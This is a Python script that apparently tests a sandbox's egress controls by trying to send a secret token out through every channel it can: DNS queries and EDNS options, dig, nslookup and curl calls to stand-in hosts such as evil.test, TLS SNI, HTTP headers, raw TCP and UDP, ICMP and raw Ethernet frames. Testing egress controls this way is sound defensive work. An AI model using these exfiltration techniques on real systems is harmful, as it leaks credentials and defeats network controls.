"""Runs in a box with the secret TOKEN and tries to send it away, by every way there is. Prints "tried NAME" and "done"."""

import os
import random
import socket
import ssl
import struct
import subprocess
import sys

TOKEN = os.environ["TOKEN"]
HEX = TOKEN.encode().hex()
BYTES = TOKEN.encode()
ALLOWED = "code.test"
ELSEWHERE = ("9.9.9.11", "9.9.9.21", "9.9.9.53", "8.8.8.8", "9.9.9.1", "192.0.0.1", "10.0.0.5", "169.254.169.254", "255.255.255.255",
             "224.0.0.251", "198.18.0.1")


def quietly(function, *arguments):
    try:
        return function(*arguments)
    except (OSError, UnicodeError, ValueError, struct.error):
        return None


def tcp(host, port, data, tls=None):
    with socket.create_connection((host, port), 2) as sock:
        if tls is not None:
            context = ssl.create_default_context()
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            sock = context.wrap_socket(sock, server_hostname=tls)
        sock.sendall(data)
        while sock.recv(65536):
            pass


def resolver():
    with open("/etc/resolv.conf", encoding="utf-8") as f:
        return next(line.split()[1] for line in f if line.startswith("nameserver"))


def question(name, kind):
    return struct.pack("!HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0) + b"".join(
        bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0" + struct.pack("!HH", kind, 1)


def udp(to, port, data):
    with socket.socket(socket.AF_INET6 if ":" in to else socket.AF_INET, socket.SOCK_DGRAM) as sock:
        quietly(sock.setsockopt, socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sock.sendto(data, (to, port))


def way_dns():
    for name in (f"{TOKEN}.{ALLOWED}", f"{TOKEN}.closed.test", f"{TOKEN}.test", TOKEN, f"{HEX}.evil.test", f"{TOKEN}.in-addr.arpa",
                 f"{ALLOWED}.{TOKEN}", f"{TOKEN.upper()}.evil.test"):
        quietly(socket.getaddrinfo, name, 80)
        for kind in (1, 28, 16, 15, 5, 12, 33, 65, 255):
            quietly(udp, resolver(), 53, question(name, kind))
            for to in ("9.9.9.53", "8.8.8.8"):
                quietly(udp, to, 53, question(name, kind))
        for to in (resolver(), "9.9.9.53"):
            q = question(name, 1)
            quietly(tcp, to, 53, struct.pack("!H", len(q)) + q)
    # EDNS options and what follows a question are nobody's business either.
    q = question(ALLOWED, 1)
    quietly(udp, resolver(), 53, q + BYTES)
    quietly(udp, resolver(), 53, q[:10] + b"\0\1" + q[12:] + b"\0" + struct.pack("!HHIHHH", 41, 4096, 0, len(BYTES) + 4, 65001,
                                                                             len(BYTES)) + BYTES)


def way_dns_tools():
    for argv in (["dig", "+time=1", "+tries=1", f"{TOKEN}.closed.test"], ["nslookup", "-timeout=1", f"{TOKEN}.closed.test"],
                 ["dig", "+time=1", "+tries=1", "@9.9.9.53", "TXT", f"{TOKEN}.closed.test"]):
        subprocess.run(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False)


def way_tls_name():
    for name in (f"{TOKEN}.test", f"{TOKEN}.{ALLOWED}", TOKEN):
        quietly(tcp, ALLOWED, 443, b"x", name)
    # No TLS at all; and a hello that is cut.
    quietly(tcp, ALLOWED, 443, BYTES * 10)
    quietly(tcp, ALLOWED, 443, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + BYTES * 3)


def way_http():
    head = f"Host: {ALLOWED}\r\n\r\n".encode()
    for data in (f"GET / HTTP/1.1\r\nHost: {TOKEN}\r\n\r\n".encode(), f"GET / HTTP/1.1\r\nHost: {TOKEN}.{ALLOWED}\r\n\r\n".encode(),
                 f"GET http://closed.test/{TOKEN} HTTP/1.1\r\n".encode() + head, f"CONNECT {TOKEN}:443 HTTP/1.1\r\n".encode() + head,
                 f"GET /{TOKEN} HTTP/1.1\r\nHost: closed.test\r\n\r\n".encode(), f"GET /{TOKEN} HTTP/1.1\r\n\r\n".encode(),
                 f"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{TOKEN}".encode(), f"{TOKEN}\r\n".encode(),
                 f"GET /{TOKEN} HTTP/1.1\r\nHost: closed.test\r\n".encode() + head,
                 b"GET / HTTP/1.1\r\n" + head + f"GET /{TOKEN} HTTP/1.1\r\nHost: closed.test\r\n\r\n".encode()):
        quietly(tcp, ALLOWED, 80, data)


def way_curl():
    for argv in ([f"http://closed.test/{TOKEN}"], [f"https://closed.test/{TOKEN}"], ["-H", f"Host: {TOKEN}", f"http://{ALLOWED}/"],
                 ["-x", f"http://{ALLOWED}:80", f"http://closed.test/{TOKEN}"], ["-k", f"https://9.9.9.21/{TOKEN}"],
                 ["--data", TOKEN, "http://9.9.9.21/"], ["-k", "--connect-to", f"::{ALLOWED}:443", f"https://{TOKEN}.test/"]):
        subprocess.run(["curl", "-s", "-m", "3", *argv], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False)


def way_tcp():
    for to in (*ELSEWHERE[:8], "2620:fe::20", "::ffff:9.9.9.21"):
        for port in (22, 53, 80, 443, 853, 7777):
            quietly(tcp, to, port, BYTES)
    # A name that is allowed, on ports that are not.
    for port in (22, 8080, 7777):
        quietly(tcp, ALLOWED, port, BYTES)
    # In the first packet (RFC 7413).
    for to in ("9.9.9.21", ALLOWED):
        with socket.socket() as sock:
            sock.settimeout(1)
            quietly(sock.sendto, BYTES, socket.MSG_FASTOPEN, (to, 7777))


def way_udp():
    for to in (*ELSEWHERE, "2620:fe::20", "ff02::1%eth0", ALLOWED):
        for port in (53, 123, 443, 5353, 4789):
            quietly(udp, to, port, BYTES * 10)


def way_raw():
    echo = struct.pack("!BBHHH", 8, 0, 0, 1, 1) + BYTES
    for family, kind, protocol in ((socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP),
                                   (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
                                   (socket.AF_INET, socket.SOCK_RAW, 47), (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW),
                                   (socket.AF_INET, socket.SOCK_STREAM, 132), (socket.AF_INET, socket.SOCK_SEQPACKET, 132),
                                   (socket.AF_INET, socket.SOCK_DGRAM, 136)):
        for to in ELSEWHERE[:4]:
            sock = quietly(socket.socket, family, kind, protocol)
            if sock:
                with sock:
                    sock.settimeout(0.3)
                    quietly(sock.sendto, echo, (to, 0))
    sock = quietly(socket.socket, socket.AF_PACKET, socket.SOCK_RAW, 3)
    if sock:
        with sock:
            quietly(sock.bind, ("eth0", 0))
            quietly(sock.send, b"\xff" * 12 + b"\x08\0" + BYTES)


for way, function in sorted((n, f) for n, f in globals().items() if n.startswith("way_")):
    function()
    print(f"tried {way}", flush=True)
print("done", flush=True)
sys.exit(0)
